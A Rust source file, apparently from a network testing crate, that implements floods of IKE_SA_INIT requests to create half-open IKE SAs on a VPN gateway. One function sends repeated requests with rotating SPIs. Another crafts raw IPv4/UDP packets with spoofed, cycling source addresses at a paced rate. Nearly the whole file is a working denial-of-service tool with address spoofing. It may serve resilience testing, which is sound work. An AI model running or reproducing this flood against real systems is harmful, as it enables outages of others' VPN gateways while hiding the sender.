//! Half-open IKE SAs: requests of IKE_SA_INIT that nobody follows up (RFC 7296 section 2.6).

use casemate_interop::{Error, Result};
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

const IKE_PORT: u16 = 500;
/// Requests of a flood in a second: more than a device serves would only fill the queues in front of it.
const PACE: u32 = 1_000;
/// What is in front of each, behind the IP header.
const UDP_HEADER: usize = 8;
/// A protocol that says: the header is ours.
const RAW: i32 = 255;

/// Sends the request, given in hexadecimal digits, `count` times, each time with another SPI of the initiator.
pub(crate) fn send(from: IpAddr, to: IpAddr, request: &str, count: usize) -> Result<String> {
    let mut request = bytes(request).ok_or_else(|| Error::new("the request is not hexadecimal"))?;
    let socket = UdpSocket::bind((from, 0)).map_err(Error::in_front(from))?;
    for number in 1..=count as u64 {
        let Some(spi) = request.first_chunk_mut() else { return Err(Error::new("the request has no SPI")) };
        *spi = number.to_be_bytes();
        socket.send_to(&request, (to, IKE_PORT)).map_err(Error::in_front(to))?;
    }
    Ok(format!("{count} sent"))
}

/// The same from addresses that need not be ours: `from` and those behind it, so many, in turn.
pub(crate) fn flood(
    from: IpAddr,
    to: IpAddr,
    request: &str,
    [count, addresses]: [usize; 2],
) -> Result<String> {
    let (IpAddr::V4(from), IpAddr::V4(to)) = (from, to) else { return Err(Error::new("IPv4 was expected")) };
    let mut request = bytes(request).ok_or_else(|| Error::new("the request is not hexadecimal"))?;
    let socket =
        Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).map_err(Error::in_front("raw"))?;
    let mut sent = 0_u32;
    let (start, addresses) = (Instant::now(), u32::try_from(addresses).map_err(Error::in_front(addresses))?);
    for number in 0..u32::try_from(count).map_err(Error::in_front(count))? {
        let Some(spi) = request.first_chunk_mut() else { return Err(Error::new("the request has no SPI")) };
        *spi = u64::from(number).saturating_add(1).to_be_bytes();
        let source =
            Ipv4Addr::from_bits(from.to_bits().wrapping_add(number.checked_rem(addresses).unwrap_or(0)));
        let packet = packet(source, to, &request);
        // A filter of this host may be against it, while a gateway comes or goes.
        if socket.send_to(&packet, &SocketAddr::from((to, 0)).into()).is_ok() {
            sent = sent.saturating_add(1);
        }
        let due = Duration::from_secs(1).saturating_mul(number) / PACE;
        std::thread::sleep(due.saturating_sub(start.elapsed()));
    }
    Ok(format!("{sent} sent"))
}

/// A datagram between two IKE ports. The kernel fills in length and checksum of the IP header; that of UDP may be missing (RFC 768).
fn packet(from: Ipv4Addr, to: Ipv4Addr, message: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend(from.octets().into_iter().chain(to.octets()));
    let length = u16::try_from(UDP_HEADER.saturating_add(message.len())).unwrap_or(u16::MAX);
    packet.extend([IKE_PORT, IKE_PORT, length, 0].into_iter().flat_map(u16::to_be_bytes));
    packet.extend(message);
    packet
}

fn bytes(digits: &str) -> Option<Vec<u8>> {
    let pair =
        |at: usize| digits.get(at..at.checked_add(2)?).and_then(|pair| u8::from_str_radix(pair, 16).ok());
    (0..digits.len()).step_by(2).map(pair).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digits_come_in_pairs() {
        assert_eq!(bytes("00ff10"), Some(vec![0, 255, 16]));
        assert_eq!(bytes("0"), None);
        assert_eq!(bytes("xy"), None);
    }
}
